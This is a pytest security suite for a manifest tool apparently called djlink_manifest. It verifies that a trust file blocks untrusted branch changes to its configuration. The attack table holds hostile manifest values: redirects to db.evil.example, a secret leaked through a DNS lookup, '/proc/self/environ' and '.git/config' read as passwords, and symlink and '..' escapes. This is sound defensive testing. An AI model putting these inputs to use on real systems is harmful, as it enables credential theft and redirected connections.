"""Branches whose authors want a secret, a file or a connection: with a trust file each is refused before any.

Each attack changes a manifest that the trust file allows. Sockets record who connects; every lookup of a name
and every reference that is resolved is recorded as well. The same attacks without a trust file, further down,
show that the records work.
"""

from __future__ import annotations

import ast
import hashlib
import socket
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from djlink_manifest.cli.root import djlink
from djlink_manifest.manifest.models import secrets
from tests.support.command import called
from tests.unit.branches import CANARIES, MANIFEST, MARK, SECRETS, Branch, listening, made


@dataclass(frozen=True)
class Attack:
    """What a branch changes: texts of the manifest, other files, symbolic links; and what is said of it."""

    name: str
    says: str
    texts: Mapping[str, str] = field(default_factory=dict)
    files: Mapping[str, str] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    arguments: tuple[str, ...] = ()
    file: str = "djlink.yaml"

    def carry_out(self, branch: Branch) -> str:
        """Change the checkout; return the place that the refusal names."""
        text, place = MANIFEST, (1, 1)
        for old, new in self.texts.items():
            assert text.count(old) == 1, old
            text = text.replace(old, new)
        for name, content in {"djlink.yaml": text, **self.files}.items():
            found = branch.write(name, content)
            place = found or place
        for name, target in self.links.items():
            path = branch.top / name
            path.unlink(missing_ok=True)
            path.symlink_to(branch.text(target))
        return f"{self.file}:{place[0]}:{place[1]}"


PACKAGE = Path(__file__).parents[2] / "djlink_manifest"
HOST, LINK_PASS = "host: localhost", "password: ${env:LINK_PASS}"
USER, OUTBOUND = "user: ${env:LINK_USER}", "password: ${env:LINK_PASS}\n    outbound: ourlab_outbound"
SERVER = "the server `{}:SOURCE_PORT` of `lab_a` is not in the trust file"

SOURCE = f"{{host: {MARK}db.evil.example, outbound: o, schemas: {{s: {{tables: [T]}}}}}}\n"
LOCAL = MANIFEST[MANIFEST.index("local:") : MANIFEST.index("sources:")]
RAW = MANIFEST[MANIFEST.index("raw:") : MANIFEST.index("      disk:")]


def host(spelled: str, name: str, says: str | None = None) -> Attack:
    return Attack(name, says or SERVER.format(spelled.strip("\"'")), {HOST: f"host: {MARK}{spelled}"})


def password(written: str, name: str, says: str = "`password` {} is not in the trust file") -> Attack:
    words = says.format(written.strip('"'))
    return Attack(f"password: {name}", words, {LINK_PASS: f"password: {MARK}{written}"})


ATTACKS = (
    # another server
    Attack(
        "another host",
        SERVER.format("db.evil.example"),
        {HOST: f"host: {MARK}db.evil.example"},
    ),
    Attack(
        "another port of a trusted host",
        "the server `localhost:EVIL_PORT` of `lab_a` is not in the trust file",
        {"port: SOURCE_PORT": f"port: {MARK}EVIL_PORT"},
    ),
    Attack(
        "the usual port",
        "the server `localhost:3306`",
        {"host: localhost\n    port: SOURCE_PORT": f"host: {MARK}localhost"},
    ),
    host("127.0.0.1", "the address of a trusted name"),
    host('"127.1"', "a short address"),
    host('"0x7f000001"', "an address in hex"),
    host('"2130706433"', "an address as a number"),
    host('"::1"', "IPv6"),
    host('"[::1]"', "IPv6 in brackets"),
    host('"::ffff:127.0.0.1"', "IPv4 within IPv6"),
    host("LocalHost", "another case"),
    host("localhost.", "a dot at the end"),
    host('"localhost "', "a blank at the end", "`host` is not a host name or address"),
    host('"local\\u200bhost"', "a sign that nobody sees"),
    host("lоcalhost", "a letter of another alphabet"),
    host("${env:EVIL_HOST}", "a host by reference"),
    host("${env:AWS_SESSION}.evil.example", "a secret in a name to look up"),
    host("${file:SECRETS/lab_b}", "a file as the host"),
    host("/run/mysqld/mysqld.sock", "a unix socket", "`host` is not a host name or address"),
    Attack("a login in the host", "`host` is a URL or contains a login", {HOST: f"{MARK}host: x@localhost"}),
    host("localhost:EVIL_PORT", "a port in the host", "`host` contains a port"),
    Attack(
        "a port by reference",
        "the server `localhost:${env:EVIL_PORT}`",
        {"port: SOURCE_PORT": f"port: {MARK}${{env:EVIL_PORT}}"},
    ),
    Attack(
        "one more source",
        "the server `db.evil.example:3306` of `lab_c` is not in the trust file",
        {"  lab_b:\n": f"  lab_c: {SOURCE}  lab_b:\n"},
    ),
    Attack(
        "the local server as a source",
        "`127.0.0.1:LOCAL_PORT` is trusted as the local server, not as a source",
        {"host: localhost\n    port: SOURCE_PORT": f"host: {MARK}127.0.0.1\n    port: LOCAL_PORT"},
    ),
    Attack(
        "a source as the local server",
        "`localhost:SOURCE_PORT` is trusted as a source, not as the local server",
        {"host: 127.0.0.1\n  port: LOCAL_PORT": f"host: {MARK}localhost\n  port: SOURCE_PORT"},
    ),
    # another secret for a trusted server
    password("${env:DJ_PASS}", "the local one at a source"),
    password("${env:AWS_SESSION}", "any variable"),
    password('"${env:LINK_PASS}${env:AWS_SESSION}"', "two references"),
    password("${file:/proc/self/environ}", "all variables"),
    password("${file:SECRETS/deploy}", "a file beside a trusted one"),
    password("${file:SECRETS/lab_b}", "the file of another source"),
    password("${file:SECRETS/../secrets/deploy}", "a file over `..`"),
    password(
        "${file:.git/config}",
        "the token of the checkout",
        "`password` {} names a file of the manifest's own checkout",
    ),
    Attack(
        "password: a link of the branch",
        "`password` ${file:innocent} names a file of the manifest's own checkout",
        {LINK_PASS: f"password: {MARK}${{file:innocent}}"},
        links={"innocent": "SECRETS/lab_b"},
    ),
    Attack(
        "password: a linked folder of the branch",
        "`password` ${file:certs/../up/deploy} names a file of the manifest's own checkout",
        {LINK_PASS: f"password: {MARK}${{file:certs/../up/deploy}}"},
        links={"up": "SECRETS"},
    ),
    Attack(
        "a secret as the account", "`user` ${env:AWS_SESSION}", {USER: f"user: {MARK}${{env:AWS_SESSION}}"}
    ),
    Attack("another account", "`user` `root` is not in the trust file", {USER: f"user: {MARK}root"}),
    Attack(
        "the default account at the local server",
        "`user` `lab`",
        {"user: ${env:DJ_USER}": f"user: {MARK}lab"},
    ),
    Attack(
        "a secret as the outbound schema",
        "`outbound` ${env:CI_JOB_JWT} is not in the trust file",
        {OUTBOUND: f"password: ${{env:LINK_PASS}}\n    outbound: {MARK}${{env:CI_JOB_JWT}}"},
    ),
    Attack(
        "the default outbound schema",
        "`outbound` ${env:LINK_OUTBOUND} is not in the trust file",
        {OUTBOUND: "password: ${env:LINK_PASS}", "  lab_a:\n": f"  {MARK}lab_a:\n"},
    ),
    Attack(
        "a reference where none is resolved",
        "references are not resolved here",
        {"contact: data@lab.example": f"contact: {MARK}${{env:AWS_SESSION}}"},
    ),
    # TLS
    Attack(
        "no TLS", "`tls: false` is not in the trust file", {"tls: {ca: certs/lab_b.pem}": f"tls: {MARK}false"}
    ),
    Attack(
        "the system's authorities",
        "the trust file allows only its own files for `tls`",
        {"tls: {ca: certs/lab_b.pem}": f"tls: {MARK}true"},
    ),
    Attack(
        "the certificate authority of the attacker",
        "`tls.ca: certs/lab_b.pem` is not in the trust file",
        {"ca: certs/lab_b.pem": f"ca: {MARK}certs/lab_b.pem"},
        {"certs/lab_b.pem": "another certificate\n"},
    ),
    Attack(
        "a certificate authority over a link",
        "`tls.ca: certs/lab_b.pem` is not in the trust file",
        {"ca: certs/lab_b.pem": f"ca: {MARK}certs/lab_b.pem"},
        links={"certs/lab_b.pem": "SECRETS/deploy"},
    ),
    Attack(
        "a private key of this machine",
        "`tls.key: SECRETS/deploy` is not in the trust file",
        {
            "{ca: certs/lab_b.pem}": "{ca: certs/lab_b.pem, cert: certs/lab_b.pem, "
            f"key: {MARK}SECRETS/deploy}}"
        },
    ),
    # stores
    Attack(
        "another endpoint",
        "`endpoint` of the store `raw` is not in the trust file",
        {"endpoint: s3.lab-a.example": f"endpoint: {MARK}s3.evil.example"},
    ),
    Attack(
        "an endpoint without TLS",
        "`endpoint` of the store `raw` is not in the trust file",
        {"endpoint: s3.lab-a.example": f"endpoint: {MARK}http://s3.lab-a.example"},
    ),
    Attack(
        "a store without TLS",
        "`secure` of the store `raw`",
        {"bucket: raw": f"bucket: raw\n        secure: {MARK}false"},
    ),
    Attack("another bucket", "`bucket` of the store `raw`", {"bucket: raw": f"bucket: {MARK}evil"}),
    Attack(
        "a prefix over `..`",
        "`location` of the store `raw`",
        {"location: data": f"location: {MARK}data/../other"},
    ),
    Attack("the whole bucket", "`location` of the store `raw`", {"location: data": f'location: {MARK}""'}),
    Attack(
        "another key of a store",
        "`secret_key` of the store `raw`",
        {"secret_key: ${env:S3_SECRET}": f"secret_key: {MARK}${{env:DJ_PASS}}"},
    ),
    Attack(
        "the machine's own identity",
        "`access_key` of the store `raw` is not in the trust file",
        {
            "        access_key: ${env:S3_KEY}\n        secret_key: ${env:S3_SECRET}\n": "",
            "raw:\n        protocol": f"{MARK}raw:\n        protocol",
        },
    ),
    Attack(
        "a store of another kind",
        "the store `raw` is not in the trust file",
        {
            RAW: f"raw:\n        protocol: {MARK}azure\n        container: c\n"
            "        connection_string: ${env:AWS_SESSION}\n"
        },
    ),
    Attack(
        "a folder of this machine as the store",
        "`location` of the store `disk`",
        {"location: DISK": f"location: {MARK}/"},
    ),
    Attack(
        "a folder over `..`",
        "`location` of the store `disk`",
        {"location: DISK": f"location: {MARK}DISK/../secrets"},
    ),
    Attack(
        "a folder over a link",
        "`location` of the store `disk`",
        {"location: DISK": f"location: {MARK}data"},
        links={"data": "SECRETS"},
    ),
    Attack(
        "a store of the lab's own",
        "the store `private` of DataJoint's configuration is not in the trust file",
        {"disk: {protocol: file, location: DISK}": f"disk: {MARK}private"},
    ),
    # who the manifest says it is
    Attack("another manifest's name", "the manifest's name `theirs`", {"name: atlas": f"name: {MARK}theirs"}),
    Attack(
        "the identity of another server",
        "the identity `theirs` of the local server",
        {"user: ${env:DJ_USER}": f"user: ${{env:DJ_USER}}\n  identity: {MARK}theirs"},
    ),
    Attack(
        "the local server by DataJoint's configuration in the checkout",
        "the server `${env:DJ_HOST}:3306` of `local` is not in the trust file",
        {LOCAL: f"local: {MARK}datajoint\n"},
        {"datajoint.json": '{"database": {"host": "localhost", "port": EVIL_PORT}}'},
    ),
    Attack(
        "the local server's port by DataJoint's configuration in the checkout",
        "the server `127.0.0.1:3306` of `local` is not in the trust file",
        {LOCAL: f"local: {{datajoint: true, host: {MARK}127.0.0.1}}\n"},
        {"datajoint.json": '{"database": {"port": EVIL_PORT}}'},
    ),
    # several files, and YAML
    Attack(
        "an overlay",
        SERVER.format("db.evil.example"),
        files={"more.yaml": f"sources: {{lab_a: {{host: {MARK}db.evil.example}}}}\n"},
        arguments=("-f", "djlink.yaml", "-f", "more.yaml"),
        file="more.yaml",
    ),
    Attack(
        "an overlay that removes a port",
        "the server `localhost:3306` of `lab_a`",
        {HOST: f"host: {MARK}localhost"},
        {"more.yaml": "sources: {lab_a: {port: null}}\n"},
        arguments=("-f", "djlink.yaml", "-f", "more.yaml"),
    ),
    Attack(
        "an overlay that removes `tls`",
        "the trust file allows only its own files for `tls`",
        {"  lab_b:\n": f"  {MARK}lab_b:\n"},
        {"more.yaml": "sources: {lab_b: {tls: null}}\n"},
        arguments=("-f", "djlink.yaml", "-f", "more.yaml"),
    ),
    Attack(
        "one more file of a folder",
        "the server `db.evil.example:3306` of `lab_c`",
        files={
            "all/djlink.yaml": MANIFEST.replace("certs/", "../certs/"),
            "all/more.yaml": f"sources:\n  lab_c: {SOURCE}",
        },
        arguments=("-f", "all"),
        file="all/more.yaml",
    ),
    Attack(
        "an anchor below `x-`",
        SERVER.format("db.evil.example"),
        {"name: atlas": f"name: atlas\nx-evil: {MARK}&evil db.evil.example", HOST: "host: *evil"},
    ),
    Attack(
        "a merge key",
        SERVER.format("db.evil.example"),
        {"name: atlas": f"name: atlas\nx-evil: &evil {{host: {MARK}db.evil.example}}", HOST: "<<: *evil"},
    ),
    Attack("a key twice", "the key `host`", {HOST: f"host: localhost\n    {MARK}host: db.evil.example"}),
    # files that are not the manifest
    Attack(
        "the manifest is a link",
        "a symbolic link leads out of the manifest's folder",
        links={"djlink.yaml": "SECRETS/deploy"},
    ),
    Attack(
        "the manifest is a link to the checkout's token",
        "a symbolic link leads out of the manifest's folder",
        links={"djlink.yaml": ".git/config"},
    ),
    Attack(
        "the folder is a link",
        "a symbolic link leads out of the manifest's folder",
        links={"all": "SECRETS"},
        arguments=("-f", "all"),
        file="all",
    ),
)


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Branch]:
    with listening() as local, listening() as source, listening() as evil:
        yield made(tmp_path_factory.mktemp("branch"), local, source, evil)


@pytest.fixture
def branch(reviewed: Branch) -> Branch:
    """The branch as it was reviewed, where nobody has connected yet."""
    reviewed.restore()
    return reviewed


@dataclass
class Record:
    """The references that were resolved, and the names that were looked up."""

    references: list[str] = field(default_factory=list)
    lookups: list[str] = field(default_factory=list)


@pytest.fixture
def record(monkeypatch: pytest.MonkeyPatch) -> Record:
    found, resolve, look_up = Record(), secrets._resolved, socket.getaddrinfo

    def resolved(reference: Any, folder: str, environ: Mapping[str, str]) -> str:
        found.references.append(reference.name)
        return resolve(reference, folder, environ)

    def looked_up(name: Any, *arguments: Any, **options: Any) -> Any:
        found.lookups.append(name)
        if str(name).endswith(".example"):
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return look_up(name, *arguments, **options)

    monkeypatch.setattr(secrets, "_resolved", resolved)
    monkeypatch.setattr(socket, "getaddrinfo", looked_up)
    return found


def run(branch: Branch, *arguments: str) -> tuple[int, str]:
    """Run a command in the checkout, with all secrets in its environment; what it prints."""
    environ = {**SECRETS, "EVIL_PORT": str(branch.evil.port)}
    ended = called(*arguments, environ=environ, folder=branch.top)
    assert "Traceback" not in ended.stderr
    return ended.returncode, ended.stdout + ended.stderr


def unwrapped(text: str) -> str:
    return " ".join(text.split())


def canaries_in(text: str | bytes) -> list[str]:
    text = text if isinstance(text, bytes) else text.encode()
    return [each for each in CANARIES if each.encode() in text]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_with_a_trust_file_an_attack_reaches_nothing(attack: Attack, branch: Branch, record: Record) -> None:
    place = attack.carry_out(branch)
    code, printed = run(branch, "plan", "--trust", str(branch.trust), *attack.arguments)
    assert code == 1
    assert branch.text(attack.says) in unwrapped(printed)
    assert place in printed
    assert [each.received for each in branch.listeners] == [[], [], []]
    assert (record.references, record.lookups) == ([], [])
    assert canaries_in(printed) == []


def test_there_are_enough_attacks_and_each_has_a_name() -> None:
    assert len({attack.name for attack in ATTACKS}) == len(ATTACKS) >= 60


def test_what_the_trust_file_allows_is_used(branch: Branch, record: Record) -> None:
    code, printed = run(branch, "plan", "--trust", str(branch.trust))
    assert code == 1
    assert "trust file" not in printed
    assert len(branch.local.received) == len(branch.source.received) == 1
    assert branch.evil.received == []
    assert b"lab_account" in branch.local.received[0]
    assert {"LINK_PASS", "DJ_PASS", str(branch.secrets / "lab_b")} <= {*record.references}
    assert canaries_in(printed) == []


def reached(name: str, branch: Branch) -> None:
    """Carry out an attack of the table, and plan without a trust file."""
    [attack] = [each for each in ATTACKS if each.name == name]
    attack.carry_out(branch)
    run(branch, "plan", *attack.arguments)


def test_without_a_trust_file_another_port_gets_a_login(branch: Branch) -> None:
    reached("another port of a trusted host", branch)
    assert b"link_account" in branch.evil.received[0]


def test_without_a_trust_file_a_secret_is_sent_as_the_account(branch: Branch) -> None:
    reached("a secret as the account", branch)
    assert canaries_in(branch.source.received[0]) == ["session-canary-5"]


def test_without_a_trust_file_a_secret_is_looked_up(branch: Branch, record: Record) -> None:
    reached("a secret in a name to look up", branch)
    assert "session-canary-5.evil.example" in record.lookups


def test_without_a_trust_file_any_file_is_a_password(branch: Branch, record: Record) -> None:
    reached("password: a link of the branch", branch)
    assert "innocent" in record.references


# Every command


CONNECTING: Mapping[str, tuple[str, ...]] = {
    "plan": (),
    "apply": ("--auto-approve",),
    "status": (),
    "graph": (),
    "doctor": (),
    "requests": (),
    "grants": (),
    "approve": ("lab_a.lab.Subject",),
    "explain": ("lab_a.lab.Subject", "subject=1"),
    "adopt": ("lab_a.lab.Subject", "--auto-approve"),
    "fmt": ("--prune",),
    "init": ("--from", "lab_a.lab", "-"),
    "validate": (),
    "list": (),
    "count": ("lab_a.lab.Subject",),
}


@pytest.mark.parametrize("command", CONNECTING)
@pytest.mark.parametrize("by", ["option", "variable"])
def test_every_command_heeds_the_trust_file(
    command: str, by: str, branch: Branch, record: Record, monkeypatch: pytest.MonkeyPatch
) -> None:
    branch.write("djlink.yaml", MANIFEST.replace(HOST, f"host: {MARK}127.0.0.1"))
    given: tuple[str, ...] = ("--trust", str(branch.trust))
    if by == "variable":
        monkeypatch.setenv("DJLINK_TRUST", str(branch.trust))
        given = ()
    code, printed = run(branch, command, *CONNECTING[command], *given)
    assert code == 1
    assert branch.text(SERVER).format("127.0.0.1") in unwrapped(printed)
    assert [each.received for each in branch.listeners] == [[], [], []]
    assert (record.references, record.lookups) == ([], [])


def test_every_command_that_takes_a_manifest_takes_a_trust_file() -> None:
    taking = {
        name
        for name, command in djlink.commands.items()
        if any("--file" in parameter.opts for parameter in command.params)
    }
    trusting = {
        name
        for name, command in djlink.commands.items()
        if any("--trust" in parameter.opts for parameter in command.params)
    }
    assert taking - trusting == {"trust", "diff"}  # which connect to nothing
    assert taking >= CONNECTING.keys()
    assert trusting == CONNECTING.keys(), "say in CONNECTING how a new command is called"


READS_ALONE = {  # manifests that are read, and neither connected to nor resolved, or that were just written
    "cli/commands/init.py": ["read"],
    "cli/commands/requests.py": ["read"],
    "cli/commands/trust.py": ["load"],
    "cli/commands/validate.py": ["load"],
}


def test_a_manifest_is_read_without_the_trust_file_where_nothing_is_done_with_it_alone() -> None:
    found = dict[str, list[str]]()
    for path in sorted((PACKAGE / "cli").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        imports = [n for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)]
        names = {a.name for n in imports if n.module == "djlink_manifest.manifest.load" for a in n.names}
        calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call) and len(n.args) < 2]
        called_names = [n.func.id for n in calls if isinstance(n.func, ast.Name)]
        if alone := [name for name in called_names if name in names & {"read", "load"}]:
            found[path.relative_to(PACKAGE).as_posix()] = alone
    assert found == READS_ALONE


def test_the_old_manifest_of_a_comparison_heeds_the_trust_file_as_well(
    branch: Branch, record: Record
) -> None:
    branch.write("old.yaml", MANIFEST.replace(HOST, "host: 127.0.0.1"))
    code, printed = run(branch, "plan", "--against", "old.yaml", "--trust", str(branch.trust))
    assert code == 1
    assert branch.text(SERVER).format("127.0.0.1") in unwrapped(printed)
    assert [each.received for each in branch.listeners] == [[], [], []]
    assert record.references == []


def test_init_refuses_a_source_of_the_command_line_that_is_not_trusted(
    branch: Branch, record: Record
) -> None:
    arguments = ("init", "--from", "lab_z.lab", "--host", "127.0.0.1", "--port", str(branch.evil.port), "-")
    code, printed = run(branch, *arguments, "--trust", str(branch.trust))
    assert code == 1
    assert f"the server `127.0.0.1:{branch.evil.port}` of `lab_z` is not in the trust file" in printed
    assert branch.evil.received == []
    run(branch, *arguments)
    assert len(branch.evil.received) == 1


def test_next_steps_keep_the_trust_file(branch: Branch, monkeypatch: pytest.MonkeyPatch) -> None:
    _, printed = run(branch, "apply", "--trust", str(branch.trust))
    assert f"`djlink plan --trust {branch.trust}`" in unwrapped(printed)
    monkeypatch.setenv("DJLINK_TRUST", str(branch.trust))  # which the next command has as well
    assert "`djlink plan`" in unwrapped(run(branch, "apply")[1])


# What the author of a branch can do about the trust file itself


def test_a_trust_file_of_the_checkout_is_refused(branch: Branch, record: Record) -> None:
    (branch.top / "trust.yaml").write_text(branch.trust.read_text())
    (branch.folder / "over").symlink_to(branch.top)
    for path in ("trust.yaml", str(branch.top / "trust.yaml"), "../over/trust.yaml"):
        code, printed = run(branch, "plan", "--trust", path)
        assert code == 1
        assert "the trust file lies in" in printed
    (branch.top / "linked.yaml").symlink_to(branch.trust)
    assert "the trust file lies in" in run(branch, "plan", "--trust", "linked.yaml")[1]
    assert record.references == []


def test_a_submodule_does_not_hide_that_the_trust_file_is_in_the_checkout(branch: Branch) -> None:
    branch.write("sub/djlink.yaml", MANIFEST.replace("certs/", "../certs/"))
    branch.write("sub/.git", "gitdir: elsewhere\n")
    branch.write("trust.yaml", branch.trust.read_text())
    code, printed = run(branch, "plan", "-f", "sub/djlink.yaml", "--trust", "trust.yaml")
    assert (code, "the trust file lies in" in printed) == (1, True)


@pytest.mark.parametrize("by", ["option", "variable"])
def test_an_empty_name_does_not_mean_to_trust_everything(
    by: str, branch: Branch, monkeypatch: pytest.MonkeyPatch
) -> None:
    if by == "variable":
        monkeypatch.setenv("DJLINK_TRUST", "")
    code, printed = run(branch, "plan", *(("--trust", "") if by == "option" else ()))
    assert code == 1
    assert "the trust file has no name" in printed
    assert branch.local.received == []


def test_a_digest_of_a_file_in_the_checkout_is_not_told(branch: Branch) -> None:
    text = MANIFEST.replace("ca: certs/lab_b.pem", "ca: .git/config")
    branch.write("djlink.yaml", text)
    digest = hashlib.sha256((branch.top / ".git" / "config").read_bytes()).hexdigest()
    code, printed = run(branch, "plan", "--trust", str(branch.trust))
    assert code == 1
    assert "sha256:…" in printed
    assert digest not in printed


def test_all_refusals_are_told_at_once(branch: Branch) -> None:
    text = MANIFEST.replace(HOST, "host: db.evil.example").replace("name: atlas", "name: theirs")
    text = text.replace("ca: certs/lab_b.pem", "ca: /etc/evil.pem").replace("${env:DJ_USER}", "root")
    branch.write("djlink.yaml", text)
    _, printed = run(branch, "plan", "--trust", str(branch.trust))
    assert "4 errors" in printed
